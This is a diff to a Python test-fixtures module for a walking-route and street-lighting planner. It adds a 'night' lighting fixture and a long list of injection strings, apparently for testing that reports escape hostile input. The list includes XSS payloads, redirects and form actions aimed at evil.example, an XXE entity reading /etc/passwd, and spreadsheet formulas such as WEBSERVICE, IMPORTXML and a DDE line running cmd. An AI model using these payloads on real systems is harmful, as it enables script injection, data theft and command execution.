@@ -8,8 +8,8 @@ import numpy as np
 
 import towns
 from homeward import streets
-from homeward.report import Areas, Findings
-from homeward.streets import Streets
+from homeward.report import Areas, Findings, Tonight
+from homeward.streets import LIT, Streets
 from homeward.tables import Town
 
 HASH = "0" * 64
@@ -41,6 +41,50 @@ HOSTILE = (
     "Rue de l\u2019\u00c9glise \u2014 \u6771\u4eac \U0001f6b6",
     "]]></script>",
 )
+
+MORE_HOSTILE = (
+    "<img src=x onerror=alert(9)>",
+    "<body onload=alert(10)>",
+    "<details open ontoggle=alert(11)>",
+    "<math href=javascript:alert(12)>x</math>",
+    "<object data=javascript:alert(13)></object>",
+    "<embed src=//evil.example/x>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<form action=//evil.example><input></form>",
+    "<video><source onerror=alert(14)></video>",
+    "<svg><script>alert(15)</script></svg>",
+    "<svg><a xlink:href='javascript:alert(16)'><text>x</text></a></svg>",
+    "</text></svg><script>alert(17)</script>",
+    "<![CDATA[<script>alert(18)</script>]]>",
+    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
+    "&y;",
+    "`${alert(19)}`",
+    "${7*7}",
+    "#{7*7}",
+    "<%= 7*7 %>",
+    "%3Cscript%3Ealert(20)%3C/script%3E",
+    "\\u003cscript\\u003ealert(21)",
+    "\\x3cimg src=x\\x3e",
+    "url(javascript:alert(22))",
+    "expression(alert(23))",
+    "data:text/html,<script>alert(24)</script>",
+    '=HYPERLINK("https://evil.example","x")',
+    '=WEBSERVICE("https://evil.example")',
+    '=IMPORTXML("https://evil.example","//a")',
+    '=DDE("cmd";"/C calc";"x")',
+    "{=1+1}",
+    "\uff0b1+1",
+    "\uff201+1",
+    "https://evil.example/",
+    "mailto:x@evil.example",
+    "$\\frac{1}{2}$",
+    "_x003D_1+1",
+    "\x1b[31mred",
+)
+
+ALL_HOSTILE = HOSTILE + MORE_HOSTILE
+"""Sixty and more, for files that take them all at once."""
 
 
 @cache
@@ -112,6 +156,7 @@ def plan_block(options: int = 2, **changes: Any) -> dict[str, Any]:
         "inputs": [{"path": "town.osm.pbf", "sha256": HASH, "rows": 9, "rejected": 0}],
         "assumptions": [_assumption(value=0.5)],
         "notes": ["A note."],
+        "profile": {"months": [], "counts": [], "note": "No month was given."},
         "worlds": 200,
         "seed": 1,
         "command": "homeward plan town.osm.pbf",
@@ -242,8 +287,22 @@ def findings(options: int = 2, plan: dict[str, Any] | None = None, **changes: An
         felt=np.full((count, 2), 0.2),
         seen=np.arange(count) % 3 > 0,
         areas=areas(),
+        tonight=tonight(),
     )
     return dataclasses.replace(made, **changes)
+
+
+def tonight() -> Tonight:
+    """A winter's night: dark from the first half-hour to the last but two."""
+    network = high_street()[1]
+    dark = np.arange(24) < 22
+    shares = np.array([[0.05, 0.02], [0.4, 0.2], [0.2, 0.1]])
+    return Tonight(
+        begins=tuple(f"{(18 + slot // 2) % 24:02d}:{30 * (slot % 2):02d}" for slot in range(24)),
+        dark=dark,
+        light=np.where(dark, network.lit[:, None], LIT).astype(np.int8),
+        felt=np.repeat(shares[:, None, :], network.segments, axis=1),
+    )
 
 
 def hostile_plan(text: str) -> dict[str, Any]:
@@ -264,6 +323,13 @@ def hostile_plan(text: str) -> dict[str, Any]:
         "notes": [text],
         "command": text,
     }
+
+
+def hostile_everywhere() -> dict[str, Any]:
+    """A plan with every hostile text in every place for one, all at once."""
+    plans = [hostile_plan(text) for text in ALL_HOSTILE]
+    lists = ("options", "measures", "sensitivity", "inputs", "assumptions", "notes")
+    return plans[0] | {name: [row for plan in plans for row in plan[name]] for name in lists}
 
 
 def hostile_town(text: str) -> dict[str, Any]:
